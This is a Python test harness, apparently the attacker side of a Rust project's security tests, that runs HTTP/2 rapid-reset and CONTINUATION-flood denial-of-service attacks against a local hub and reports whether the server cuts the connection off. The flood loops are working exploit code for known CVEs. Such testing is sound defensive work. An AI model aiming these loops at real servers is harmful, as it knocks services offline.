#!/usr/bin/env python3
"""HTTP/2 abuse against a pconnect hub, on loopback only: the attacker side of tests/tests/security.rs.

Modes (each bounded by --count and --seconds, then it stops by itself):
  rapid-reset   HEADERS immediately followed by RST_STREAM, over and over (CVE-2023-44487).
  continuation  one HEADERS without END_HEADERS, then CONTINUATION frames that never end the block
                (RUSTSEC-2024-0332, CVE-2024-27316 family).
  hello-only    on the agent port: send the hello and report the hub's answer (nothing else).

On the agent port (--hello-token-env NAME) the length-prefixed JSON hello goes first, with the
token read from that environment variable (never from argv). --raw-h2 skips the hello entirely
and speaks HTTP/2 at once, as an unauthenticated stranger would.

Prints one JSON object: what was sent, whether and how the server cut the connection off.
Needs the `h2` package (pip install h2).
"""

import argparse
import json
import os
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import hpack
import hyperframe.frame as hf


def connect(args):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols([args.alpn])
    raw = socket.create_connection(("127.0.0.1", args.port), timeout=10)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock = ctx.wrap_socket(raw, server_hostname=args.sni)
    return sock


def hello(sock, token, role):
    body = json.dumps({"version": 1, "role": role, "token": token, "session": "attacker"}).encode()
    sock.sendall(struct.pack(">I", len(body)) + body)
    prefix = read_exact(sock, 4)
    if prefix is None:
        return {"result": "closed"}
    (n,) = struct.unpack(">I", prefix)
    reply = read_exact(sock, n)
    return json.loads(reply) if reply else {"result": "closed"}


def read_exact(sock, n):
    out = b""
    while len(out) < n:
        try:
            chunk = sock.recv(n - len(out))
        except (ConnectionError, ssl.SSLError, socket.timeout):
            return None
        if not chunk:
            return None
        out += chunk
    return out


class Watch:
    """Reads whatever the server sent, without blocking, and notes GOAWAY / close."""

    def __init__(self, sock, conn):
        self.sock, self.conn = sock, conn
        self.goaway = None
        self.closed = False
        self.responses = 0
        self.resets_from_server = 0
        self.bytes_in = 0

    def poll(self, wait=0.0):
        while not self.closed:
            readable, _, _ = select.select([self.sock], [], [], wait)
            if not readable and self.sock.pending() == 0:
                return
            wait = 0.0
            try:
                data = self.sock.recv(65536)
            except ssl.SSLWantReadError:
                return
            except (ConnectionError, ssl.SSLError, OSError):
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.bytes_in += len(data)
            if self.conn is None:
                continue
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                return
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.goaway = {"error_code": int(event.error_code), "last_stream_id": event.last_stream_id}
                elif isinstance(event, h2.events.ResponseReceived):
                    self.responses += 1
                elif isinstance(event, h2.events.StreamReset):
                    self.resets_from_server += 1
            out = self.conn.data_to_send()
            if out:
                try:
                    self.sock.sendall(out)
                except (ConnectionError, ssl.SSLError, OSError):
                    self.closed = True

    @property
    def cut_off(self):
        return self.goaway is not None or self.closed


def request_headers(args):
    return [
        (":method", args.method),
        (":scheme", "https"),
        (":authority", args.authority or args.sni),
        (":path", args.path),
        ("user-agent", "pconnect-attack"),
    ]


def send(sock, data, watch):
    try:
        sock.sendall(data)
        return True
    except (ConnectionError, ssl.SSLError, OSError):
        watch.closed = True
        return False


def rapid_reset(sock, args, result):
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    watch = Watch(sock, conn)
    send(sock, conn.data_to_send(), watch)
    headers = request_headers(args)
    started = time.monotonic()
    pairs = 0
    while pairs < args.count and time.monotonic() - started < args.seconds and not watch.cut_off:
        try:
            for _ in range(args.batch):
                stream_id = conn.get_next_available_stream_id()
                conn.send_headers(stream_id, headers, end_stream=True)
                conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
                pairs += 1
        except (h2.exceptions.ProtocolError, h2.exceptions.NoAvailableStreamIDError) as e:
            result["client_error"] = repr(e)
            break
        if not send(sock, conn.data_to_send(), watch):
            break
        watch.poll()
    result["pairs_sent"] = pairs
    finish(watch, started, args, result)


def continuation(sock, args, result):
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    watch = Watch(sock, conn)
    send(sock, conn.data_to_send(), watch)
    watch.poll(0.2)
    encoder = hpack.Encoder()
    first = hf.HeadersFrame(1)
    first.data = encoder.encode(request_headers(args), huffman=False)
    first.flags.add("END_STREAM")
    send(sock, first.serialize(), watch)
    started = time.monotonic()
    frames, block = 0, len(first.data)
    pad = b"a" * args.frame_bytes
    while frames < args.count and time.monotonic() - started < args.seconds and not watch.cut_off:
        chunk = b""
        for _ in range(args.batch):
            frame = hf.ContinuationFrame(1)
            # A literal header field without indexing, new name: 0x00, name, value.
            name = b"x-pad-%d" % frames
            frame.data = b"\x00" + bytes([len(name)]) + name + encode_len(len(pad)) + pad
            block += len(frame.data)
            chunk += frame.serialize()
            frames += 1
        if not send(sock, chunk, watch):
            break
        watch.poll()
    result["continuation_frames_sent"] = frames
    result["header_block_bytes_sent"] = block
    finish(watch, started, args, result)


def encode_len(n):
    """HPACK string length with a 7-bit prefix, no Huffman."""
    if n < 127:
        return bytes([n])
    out = [127]
    n -= 127
    while n >= 128:
        out.append((n % 128) + 128)
        n //= 128
    out.append(n)
    return bytes(out)


def finish(watch, started, args, result):
    result["elapsed_s"] = round(time.monotonic() - started, 3)
    # Give the server a moment to say goodbye if it has not yet.
    deadline = time.monotonic() + args.linger
    while not watch.cut_off and time.monotonic() < deadline:
        watch.poll(0.1)
    result["goaway"] = watch.goaway
    result["closed"] = watch.closed
    result["cut_off"] = watch.cut_off
    result["responses"] = watch.responses
    result["resets_from_server"] = watch.resets_from_server


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--sni", default="localhost")
    p.add_argument("--alpn", default="h2")
    p.add_argument("--mode", choices=["rapid-reset", "continuation", "hello-only"], required=True)
    p.add_argument("--count", type=int, default=100_000)
    p.add_argument("--seconds", type=float, default=20.0)
    p.add_argument("--batch", type=int, default=100)
    p.add_argument("--frame-bytes", type=int, default=1000)
    p.add_argument("--linger", type=float, default=3.0)
    p.add_argument("--method", default="GET")
    p.add_argument("--path", default="/")
    p.add_argument("--authority")
    p.add_argument("--hello-token-env", help="environment variable holding the member token")
    p.add_argument("--hello-role", default="forward")
    args = p.parse_args()

    result = {"mode": args.mode}
    try:
        sock = connect(args)
    except (OSError, ssl.SSLError) as e:
        result["connect_error"] = repr(e)
        print(json.dumps(result))
        return
    result["alpn"] = sock.selected_alpn_protocol()
    if args.hello_token_env:
        reply = hello(sock, os.environ.get(args.hello_token_env, ""), args.hello_role)
        result["hello"] = reply.get("result")
        result["hello_reply"] = reply
        if reply.get("result") != "welcome" or args.mode == "hello-only":
            print(json.dumps(result))
            return
    if args.mode == "rapid-reset":
        rapid_reset(sock, args, result)
    elif args.mode == "continuation":
        continuation(sock, args, result)
    try:
        sock.close()
    except OSError:
        pass
    print(json.dumps(result))


if __name__ == "__main__":
    sys.exit(main())
